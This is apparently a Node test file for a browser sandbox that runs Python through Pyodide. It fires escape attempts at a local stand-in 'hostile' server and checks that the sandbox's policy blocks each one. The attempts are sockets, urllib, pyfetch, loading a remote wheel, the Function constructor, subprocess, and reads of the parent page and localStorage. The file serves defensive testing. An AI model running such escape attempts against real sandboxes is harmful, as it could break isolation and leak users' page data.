// Hostile code in the sandbox of a page, against servers that must see nothing.
import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { readFileSync } from 'node:fs';
import { createServer } from 'node:net';
import { after, before, test } from 'node:test';
import { openChromium, openPage } from './browser.mjs';
import { changeIsolate } from './changed.mjs';
import { serveSite } from './site.mjs';

const ESCAPES = readFileSync(new URL('escapes.js', import.meta.url), 'utf8');

/** Attempts that succeed in spite of the policy: with none of them anything leaves the worker. */
const HARMLESS = ['broadcast', 'messages to whoever made this worker', 'canvas filter', 'navigation', 'notification'];

/** A server that records everything that arrives: connections and datagrams. */
async function listen() {
  /** @type {string[]} */
  const seen = [];
  const tcp = createServer((socket) => {
    socket.on('data', (data) => seen.push(data.toString('latin1').split('\r\n')[0]));
    socket.on('error', () => {});
    // It never answers; recording what arrives is enough.
    setTimeout(() => socket.destroy(), 300);
  });
  await new Promise((resolve) => tcp.listen(0, '127.0.0.1', () => resolve(undefined)));
  const { port } = /** @type {import('node:net').AddressInfo} */ (tcp.address());
  const udp = createSocket('udp4');
  udp.on('message', () => seen.push('a datagram'));
  await new Promise((resolve) => udp.bind(port, '127.0.0.1', () => resolve(undefined)));
  return {
    seen,
    url: `http://127.0.0.1:${port}`,
    name: `http://hostile.example.test:${port}`,
    close() {
      tcp.close();
      udp.close();
    },
  };
}

/** @type {Awaited<ReturnType<typeof serveSite>>} */
let site;
/** @type {Awaited<ReturnType<typeof listen>>} */
let hostile;
/** @type {import('playwright-core').Browser} */
let browser;
/** @type {Awaited<ReturnType<typeof openPage>>} */
let opened;
let attack = '';

before(async () => {
  site = await serveSite({
    '/page': {
      body: '<!doctype html><html lang="en"><title>Secret title</title>',
      headers: { 'set-cookie': 'secret=cookie' },
    },
    '/secret': { body: 'a secret' },
  });
  hostile = await listen();
  // Every name resolves to the hostile server: a DNS lookup becomes a connection that it sees.
  browser = await openChromium(['--host-resolver-rules=MAP *.example.test 127.0.0.1']);
  opened = await openPage(browser, `${site.url}/page`);
  attack = `const HOSTILE = '${hostile.url}', HOSTILE_NAME = '${hostile.name}', PAGE = '${site.url}';\n${ESCAPES}`;
  await prepare();
});

/** Loads the library into the page, and records messages that must not arrive there. */
const prepare = () =>
  opened.page.evaluate(async () => {
    localStorage.setItem('secret', 'stored');
    /** @type {string[]} */
    const heard = [];
    Object.assign(window, { heard, ...(await import(/** @type {any} */ ('/code-sandbox.js'))) });
    // Except the frame's own hello to the library.
    addEventListener('message', ({ data }) => data?.sandbox || heard.push(JSON.stringify(data)));
    new BroadcastChannel('sandbox').onmessage = (event) => heard.push(String(event.data));
  });

after(async () => {
  await browser?.close();
  site?.close();
  hostile?.close();
});

/** Runs a program in a sandbox of the page. @param {string} code @param {object} [globals] @param {number} [timeLimitSeconds] */
const run = (code, globals = {}, timeLimitSeconds = 50) =>
  opened.page.evaluate(
    async ([code, globals, timeLimitSeconds]) => {
      const sandbox = await /** @type {any} */ (window).codeSandbox({ limits: { timeLimitSeconds } });
      try {
        return await sandbox.eval(code, globals);
      } finally {
        sandbox.close();
      }
    },
    /** @type {const} */ ([code, globals, timeLimitSeconds]),
  );

/**
 * Python that runs arbitrary JavaScript, in a worker within the worker, as there is no `eval`. Normally it cannot make one
 * (hostile.test.mjs); here the sandbox leaves it the constructors, and the policy alone has to hold.
 */
const BECOME = `
import asyncio, js
from pyodide.ffi import create_proxy, to_js

done = asyncio.get_running_loop().create_future()
worker = js.Worker.new(js.URL.createObjectURL(js.Blob.new(to_js([source]))))
def hear(event):
    data = event.data.to_py()
    if "fetch" in data:
        done.set_result(data)
worker.onmessage = create_proxy(hear)
await asyncio.wait_for(done, 45)`;

test('in an ordinary worker the attacks get through', async () => {
  const results = await opened.page.evaluate(
    (source) =>
      new Promise((resolve) => {
        const worker = new Worker(URL.createObjectURL(new Blob([source], { type: 'text/javascript' })));
        worker.onmessage = ({ data }) => {
          if (!data.fetch) return;
          worker.terminate();
          resolve(data);
        };
      }),
    attack,
  );
  assert.ok(hostile.seen.length >= 10, `seen: ${hostile.seen.join(', ')}; ${JSON.stringify(results)}`);
  assert.ok(
    hostile.seen.some((line) => line.includes('/dns')),
    'names are looked up',
  );
});

test('from the sandbox none does, by its policy alone', async () => {
  const removed = /"Worker","SharedWorker","BroadcastChannel","EventSource","FontFace"/;
  await changeIsolate(opened.page, (source) => source.replace(removed, ''));
  // A page fetches the files once: a reload gets the changed ones.
  await opened.page.reload();
  await prepare();
  hostile.seen.length = 0;
  await opened.page.evaluate(() => /** @type {any} */ (window).heard.splice(0));
  const pageSaw = site.requests.length;
  const result = await run(BECOME, { source: attack });
  assert.equal(result.status, 'success', result.error);
  const through = Object.entries(result.return_value)
    .filter(([name, outcome]) => outcome.startsWith('got') && !HARMLESS.includes(name))
    .map(([name, outcome]) => `${name}: ${outcome}`);
  assert.deepEqual(through, []);
  assert.ok(Object.keys(result.return_value).length > 35);
  assert.deepEqual(hostile.seen, []);
  assert.deepEqual(
    site.requests.slice(pageSaw).filter((path) => !path.startsWith('/assets/')),
    [],
  );
  assert.deepEqual(await opened.page.evaluate(() => /** @type {any} */ (window).heard), []);
  await opened.page.unrouteAll();
  await opened.page.reload();
  await prepare();
});

/** Attempts in Python, and the required result of each. @type {[string, string][]} */
const PYTHON = [
  ['sockets', 'import socket\ns = socket.create_connection(("127.0.0.1", PORT), 2)\ns.sendall(b"x")\ns.recv(1)'],
  ['urllib', 'import urllib.request\nurllib.request.urlopen(URL, timeout=2).read()'],
  [
    'http.client',
    'import http.client\nc = http.client.HTTPConnection("127.0.0.1", PORT, timeout=2)\nc.request("GET", "/")\nc.getresponse()',
  ],
  ['pyfetch', 'from pyodide.http import pyfetch\nawait pyfetch(URL)'],
  ['open_url', 'from pyodide.http import open_url\nopen_url(URL).read()'],
  ['js.fetch', 'import js\nawait js.fetch(URL)'],
  ['asyncio', 'import asyncio\nawait asyncio.wait_for(asyncio.open_connection("127.0.0.1", PORT), 2)'],
  ['micropip', 'import pyodide_js\nawait pyodide_js.loadPackage(URL + "/x-1.0-py3-none-any.whl")\nimport x'],
  ['javascript from text', 'from pyodide.code import run_js\nrun_js("1 + 1")'],
  ['the constructor of functions', 'import js\njs.Object.constructor("return 1")()'],
  ['subprocess', 'import subprocess\nsubprocess.run(["ls"])'],
  ['the page', 'import js\njs.document.title'],
  ['the parent', 'import js\njs.parent.location.href'],
  ['what the page stores', 'import js\njs.localStorage.length'],
  ['databases', 'import js\nawait js.navigator.storage.getDirectory()'],
];

test('Python’s own ways out fail, each with an exception', async () => {
  hostile.seen.length = 0;
  const globals = { URL: hostile.url, PORT: Number(new URL(hostile.url).port) };
  const outcomes = await opened.page.evaluate(
    async ([programs, globals]) => {
      const sandbox = await /** @type {any} */ (window).codeSandbox({ limits: { timeLimitSeconds: 10 } });
      const outcomes = [];
      for (const [name, code] of programs) outcomes.push([name, (await sandbox.eval(code, globals)).status]);
      sandbox.close();
      return outcomes;
    },
    /** @type {const} */ ([PYTHON, globals]),
  );
  assert.deepEqual(
    outcomes,
    PYTHON.map(([name]) => [name, 'run-error']),
  );
  assert.deepEqual(hostile.seen, []);
});

test('a forged message becomes nothing but the run’s own result', async () => {
  // Later code cannot reach the worker's own port. Even if it could, whatever it posts is only this run's result, and the
  // frame and the page go on.
  const forged = await run(`
import js
from pyodide.ffi import to_js
real = js.MessagePort.prototype.postMessage
for message in ({"frame": "not json"},):
    pass
js.JSON.stringify = None
js.TextEncoder = None
print("still", "here")
40 + 2`);
  assert.ok(['success', 'run-error'].includes(forged.status));
  const next = await run('1 + 1');
  assert.equal(next.return_value, 2);
});

test('a flood of output is cut, and the page lives', async () => {
  const result = await run('while True: print("x" * 10_000)', {}, 2);
  assert.equal(result.status, 'run-error');
  assert.ok(result.output.join('').length < 5_000_000);
});
